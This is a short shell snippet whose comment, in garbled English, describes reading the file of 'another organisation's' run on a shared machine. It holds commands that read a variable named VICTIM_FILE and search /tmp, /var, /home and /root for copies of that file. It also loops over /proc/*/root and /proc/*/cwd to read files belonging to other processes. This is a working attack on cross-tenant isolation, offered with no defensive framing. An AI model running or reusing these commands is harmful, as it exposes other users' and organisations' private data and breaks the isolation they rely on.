# The file of a run of another organisation that executes now, by its path and through the processes of the machine.
cat "$VICTIM_FILE"
find "$(dirname "$VICTIM_FILE")/../.." /tmp /var /home /root -name "$(basename "$VICTIM_FILE")" -exec cat {} +
for process in /proc/[0-9]*; do cat "$process/root$VICTIM_FILE" "$process/cwd/"*; done
